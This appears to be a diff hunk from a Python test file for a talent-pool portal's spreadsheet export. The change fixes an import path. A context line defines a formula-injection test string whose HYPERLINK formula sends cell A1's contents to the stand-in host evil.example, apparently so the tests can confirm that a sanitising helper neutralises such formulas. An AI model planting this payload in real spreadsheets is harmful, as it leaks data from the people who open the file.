@@ -9,7 +9,7 @@ from openpyxl import load_workbook
 
 from portal.spreadsheets import safe_cell, xlsx_bytes
 from talentpool import services
-from talentpool.jobs import JobPosting
+from talentpool.models import JobPosting
 from tests.conftest import JINSEKI, org
 
 ATTACK = '=HYPERLINK("https://evil.example/?"&A1,"詳細")'
